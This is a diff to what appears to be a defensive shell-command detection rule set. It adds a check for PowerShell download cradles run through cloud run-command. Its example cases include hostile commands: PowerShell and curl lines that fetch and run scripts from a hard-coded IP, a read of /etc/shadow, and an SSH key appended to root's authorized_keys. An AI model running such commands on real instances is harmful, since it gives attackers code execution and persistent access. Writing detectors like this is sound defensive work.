@@ -1,10 +1,11 @@
 import { ruleAnalyzer, hasArg, hasShortFlag, operands, type AnalysisInput, type Rule } from '../rule.js';
 import type { SimpleCommand } from '../shell/types.js';
 import { classifyPath, inTemp, isStagingPath } from '../knowledge/paths.js';
+import { destinationOf, EXFIL_KINDS } from '../knowledge/hosts.js';
+import { powershellCradle } from './command_and_control.js';
 
 /** System directories a planted binary or config takes effect from. */
 const SYSTEM_TARGET = /^(\/usr\/(local\/)?s?bin|\/s?bin|\/etc|\/root|\/lib\/systemd|\/opt\/[^/]+\/bin)(\/|$)/;
-import { destinationOf, EXFIL_KINDS } from '../knowledge/hosts.js';
 
 /** The part of a command the checks need; parsed SimpleCommands and split remote scripts both fit. */
 interface Cmd {
@@ -111,6 +112,9 @@ const WIPE_TARGET = /^\/(?:\*?$|etc|home|root|srv|opt|boot|usr|data|var\/(?:lib|
 const WIPERS = (c: Cmd) => c.name === 'shred' || (c.name === 'rm' && c.argv.some((a) => a === '--recursive' || /^-[a-zA-Z]*[rR]/.test(a)));
 
 function payloadOf(cmds: readonly Cmd[]): string | undefined {
+  // a PowerShell script (`--command-id RunPowerShellScript`) parses as several shell commands: read it whole
+  const script = cmds.slice(0, 64).map((c) => c.argv.join(' ')).join(' ').slice(0, 8192);
+  if (powershellCradle(script)) return `runs a downloaded PowerShell script: ${script}`;
   for (const c of cmds) {
     const line = c.argv.join(' ');
     if (SHELLS.has(c.name) && c.pipeFrom && !c.argv.slice(1).some((a) => !a.startsWith('-') && a !== '-')) return `pipes into ${c.name}: ${c.pipeFrom.argv.join(' ')} | ${line}`;
@@ -338,7 +342,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-LATERAL-004', name: 'cloud-run-command-payload', score: 88, tactic: 'lateral_movement', technique: 'T1651', strong: true,
     message: 'Runs a payload on cloud instances through SSM or VM run-command', why: 'Cloud run-command executes as root on instances without SSH; attackers with IAM access use it to spread.',
     check: remotePayload(CLOUD),
-    examples: { fire: ["aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:env,Values=prod --parameters 'commands=[\"curl -s http://45.33.12.7/x | sh\"]'", "az vm run-command invoke -g rg -n vm1 --command-id RunShellScript --scripts 'cat /etc/shadow'", "aws ssm send-command --document-name AWS-RunShellScript --instance-ids i-0abc --parameters commands='echo ssh-ed25519 AAAA x >> /root/.ssh/authorized_keys'"], quiet: ["aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:env,Values=dev --parameters 'commands=[\"systemctl restart app\"]'", 'aws ssm describe-instance-information', "az vm run-command invoke -g rg -n vm1 --command-id RunShellScript --scripts 'df -h'"] },
+    examples: { fire: [`az vm run-command invoke -g rg -n dc01 --command-id RunPowerShellScript --scripts 'IEX (New-Object Net.WebClient).DownloadString("http://45.33.12.7/a.ps1")'`, "aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:env,Values=prod --parameters 'commands=[\"curl -s http://45.33.12.7/x | sh\"]'", "az vm run-command invoke -g rg -n vm1 --command-id RunShellScript --scripts 'cat /etc/shadow'", "aws ssm send-command --document-name AWS-RunShellScript --instance-ids i-0abc --parameters commands='echo ssh-ed25519 AAAA x >> /root/.ssh/authorized_keys'"], quiet: ["aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:env,Values=dev --parameters 'commands=[\"systemctl restart app\"]'", 'aws ssm describe-instance-information', "az vm run-command invoke -g rg -n vm1 --command-id RunShellScript --scripts 'df -h'"] },
   },
   {
     id: 'PX-LATERAL-005', name: 'ssh-with-foreign-key', score: 75, tactic: 'lateral_movement', technique: 'T1021.004',
